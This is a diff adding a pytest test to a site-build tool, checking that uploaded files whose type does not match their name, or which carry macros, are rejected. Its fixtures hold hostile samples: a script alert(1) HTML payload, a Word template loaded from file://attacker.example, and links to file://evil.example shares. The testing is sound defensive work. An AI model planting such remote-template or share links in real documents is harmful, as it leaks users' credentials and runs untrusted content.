@@ -365,3 +365,55 @@ def test_an_editors_page_outside_the_navigation_and_a_topic_named_index_are_refu
     topics.write_text(topics.read_text().replace("\nindex:\n  name: Index topic\n  description: A topic named index.\n", ""))
     result = build(project)
     assert result.returncode == 0, result.stderr[-2000:]
+
+
+def _office(parts: dict[str, str]) -> bytes:
+    import io
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+    return out.getvalue()
+
+
+WORD = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>",
+        "word/_rels/document.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/hyperlink" Target="https://www.gov.scot/" TargetMode="External"/>'
+        "</Relationships>"}
+
+
+@pytest.mark.parametrize("name, content, says", [
+    ("page.docx", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "is not a Word file"),
+    ("notes.txt", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "is a web page"),
+    ("template.docx", _office({**WORD, "word/_rels/settings.xml.rels":
+                               '<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/'
+                               'officeDocument/2006/relationships/attachedTemplate" '
+                               'Target="file://attacker.example/share/t.dotm" TargetMode="External"/></Relationships>'}),
+     "loads `file://attacker.example/share/t.dotm` from outside the document"),
+    ("share.docx", _office({**WORD, "word/_rels/document.xml.rels": WORD["word/_rels/document.xml.rels"].replace(
+        "https://www.gov.scot/", "file://evil.example/share/x")}), "a document may link only to web"),
+    ("macros.docx", _office({**WORD, "word/vbaProject.bin": "x"}), "holds macros"),
+    ("share.odt", _office({"mimetype": "application/vnd.oasis.opendocument.text",
+                           "content.xml": '<office:document-content><text:a xlink:href="file://evil.example/s/x"/>'
+                                          "</office:document-content>"}), "a document may link only to web"),
+])
+def test_office_documents_and_text_files_are_what_their_names_say(tmp_path, name, content, says):
+    """Found by the third fresh-clone attacker: only PDFs and images were
+    read, so an HTML page named .docx or .txt, and a Word file that fetches
+    a template from a Windows share when opened, were published."""
+    project = make_project(tmp_path / "p", content={
+        A: GOOD.replace("status: current", f"status: current\ndownloads:\n  - file: files/{name}\n    label: File"),
+        f"at-a-glance/files/{name}": content})
+    line = GOOD.split("\n").index("status: current") + 3
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-2000:])
+        assert any(l.startswith(f"{A}:{line}:") and "[unsafe-file]" in l and says in l for l in out.splitlines()), \
+            (command, out[-2000:])
+    # A real document with a link to the web is fine.
+    (project / "at-a-glance" / "files" / name).write_bytes(
+        _office(WORD) if name.endswith(".docx") else
+        _office({"mimetype": "x", "content.xml": '<a xlink:href="https://www.gov.scot/"/>'}) if name.endswith(".odt")
+        else b"Plain notes.\n")
+    assert build(project).returncode == 0
